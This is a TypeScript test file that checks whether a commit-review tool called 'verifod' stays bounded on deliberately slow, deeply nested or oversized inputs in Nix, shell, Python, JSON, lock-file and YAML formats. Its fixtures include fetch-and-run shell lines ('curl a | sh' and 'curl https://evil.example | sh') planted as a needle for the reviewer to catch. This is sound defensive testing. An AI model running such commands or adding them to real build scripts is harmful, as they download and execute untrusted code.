/** The built program on files that are made to be slow: each review is bounded, and says what it could not check. */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Review } from "../../src/report/review.ts";
import { verifod } from "../support/cli.ts";
import { type CommitPair, commitPairs, textFile } from "../support/trees.ts";

const N = 6_000;
const all = (make: (index: number) => string, count = N): string =>
  Array.from({ length: count }, (_, index) => make(index)).join("");

/** Files by name; `package.nix` unless it begins with another. */
const BOMBS: Readonly<Record<string, readonly [path: string, text: string]>> = {
  "selections without end": ["package.nix", `x${".a".repeat(N)}`],
  "signs without end": ["package.nix", `${"-".repeat(N)}1`],
  "negations without end": ["package.nix", `${"!".repeat(N)}true`],
  "parentheses in one another": ["package.nix", `${"(".repeat(N)}1${")".repeat(N)}`],
  "parentheses that stay open": ["package.nix", "(".repeat(N)],
  "lists in one another": ["package.nix", `${"[".repeat(N)}${"]".repeat(N)}`],
  "sets in one another": ["package.nix", `${"{a=".repeat(N)}1${";}".repeat(N)}`],
  "lets in one another": ["package.nix", `${"let a=1; in ".repeat(N)}a`],
  "withs in one another": ["package.nix", `${"with a; ".repeat(N)}b`],
  "functions in one another": ["package.nix", `${"x: ".repeat(N)}x`],
  "conditions in one another": ["package.nix", `${"if a then b else ".repeat(N)}c`],
  "strings in one another": ["package.nix", `${'"${'.repeat(N)}1${'}"'.repeat(N)}`],
  "strings that stay open": ["package.nix", "''${".repeat(N)],
  "operators without end": ["package.nix", `1${" + 1".repeat(N)}`],
  "concatenations without end": ["package.nix", `[]${" ++ []".repeat(N)}`],
  "calls without end": ["package.nix", `f${" x".repeat(N)}`],
  "bindings without end": ["package.nix", `{ ${all((n) => `a${n}=1;`, 40_000)} }`],
  "a wide list": ["package.nix", `[ ${all((n) => `${n} `, 40_000)}]`],
  "bindings that call one another": ["package.nix", `rec { ${all((n) => `a${n} = a${n + 1};`)} }`],
  "a value that doubles itself": [
    "package.nix",
    `rec { a0 = "aaaaaaaa"; ${all((n) => `a${n + 1} = a${n} + a${n};`, 60)} src = fetchurl { url = a60; hash = a60; }; }`,
  ],
  "a huge string": ["package.nix", `{ a = "${"x".repeat(1_500_000)}"; }`],
  "one line of megabytes": ["package.nix", `{ ${all((n) => `a${n} = "b"; `, 40_000)} }`],
  "comments without end": ["package.nix", `${"/* ".repeat(N)}1`],
  "comments by the line": ["package.nix", `${"# verifod: ignore[x] y\n".repeat(N)}1`],
  "carriage returns": ["package.nix", `{ a = 1; #${"\r#".repeat(N)}\r}`],
  "zero bytes": ["package.nix", `{ a = "${"\0".repeat(N)}"; }`],
  "a byte order mark on each line": ["package.nix", "\ufeff\n".repeat(N)],
  "pins without end": [
    "package.nix",
    `{ fetchurl }: [ ${all((n) => `(fetchurl { url = "https://example.org/${n}"; sha256 = "${String(n).padStart(52, "0")}"; })`, 1_500)} ]`,
  ],
  "scripts without end": [
    "package.nix",
    `{ ${all((n) => `p${n}.installPhase = ''curl a | sh\n'';`, 1_500)} }`,
  ],
  "heredocs in one another": ["run.sh", `#!/bin/sh\n${"cat <<A\n$(".repeat(2_000)}`],
  "quotes in one another": ["run.sh", `#!/bin/sh\n${'"$('.repeat(N)}`],
  "backticks without end": ["run.sh", `#!/bin/sh\n${"`".repeat(N)}`],
  "braces of a shell": ["run.sh", `#!/bin/sh\necho ${"{a,b}".repeat(N)}`],
  "Python in parentheses": ["run.py", `#!/usr/bin/python\n${"(".repeat(N)}`],
  "Python by indentation": ["run.py", all((n) => `${" ".repeat(n)}if x:\n`, 1_000)],
  "deep JSON": ["sources.json", "[".repeat(N)],
  "wide JSON": [
    "sources.json",
    `{${all((n) => `"a${n}":{"url":"https://example.org/${n}","sha256":"${String(n).padStart(52, "0")}"},`, 2_500)}"z":1}`,
  ],
  "a lock file of npm": [
    "package-lock.json",
    `{"packages":{${all((n) => `"node_modules/a${n}":{"version":"1.0.${n}","resolved":"https://example.org/a","integrity":"sha512-x"},`)}"z":{}}}`,
  ],
  "a lock file of Cargo": [
    "Cargo.lock",
    all((n) => `[[package]]\nname = "a${n}"\nversion = "1.0"\nsource = "git+https://example.org/a"\n\n`),
  ],
  "aliases of YAML": ["pnpm-lock.yaml", `a: &a [x]\n${all((n) => `b${n}: &b${n} [*a,*a,*a,*a]\n`, 2_000)}`],
  "a workflow of many steps": [
    ".github/workflows/a.yml",
    `on: push\njobs:\n  a:\n    steps:\n${"      - run: curl a | sh\n".repeat(1_500)}`,
  ],
  owners: ["ci/OWNERS", all((n) => `/${"*a".repeat(20)}/${n} @b\n`)],
};

/** Seconds of the program's own computing are not to be had: a busy machine takes several times as long. */
const MOST_SECONDS = 40;

let folder = "";
let pairs: readonly CommitPair[] = [];
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "verifod-bombs-"));
  pairs = commitPairs(
    join(folder, "repository"),
    Object.values(BOMBS).map(([path, text]) => ({
      base: new Map([[`pkgs/frob/${path}`, textFile("{ }\n")]]),
      head: new Map([
        [path.startsWith(".") || path.startsWith("ci") ? path : `pkgs/frob/${path}`, textFile(text)],
        ["needle.patch", textFile("+curl https://evil.example | sh\n")],
      ]),
    })),
  );
});
afterAll(() => rmSync(folder, { recursive: true }));

test.each(Object.keys(BOMBS).map((name, index) => ({ name, index })))(
  "$name",
  { timeout: 120_000 },
  async ({ index }) => {
    const pair = pairs[index];
    const started = performance.now();
    const args = [
      "review",
      `${pair?.base}..${pair?.head}`,
      "--repo",
      join(folder, "repository"),
      "--format",
      "json",
    ];
    const run = await verifod(args, { env: { NODE_OPTIONS: "--max-old-space-size=700" } });
    expect((performance.now() - started) / 1_000).toBeLessThan(MOST_SECONDS);
    expect(run.stderr).toBe("");
    const review = JSON.parse(run.stdout) as Review;
    expect(run.stdout.length).toBeLessThan(20_000_000);
    for (const { reason } of review.unchecked) expect(reason).not.toMatch(/rule failed/);
  },
);
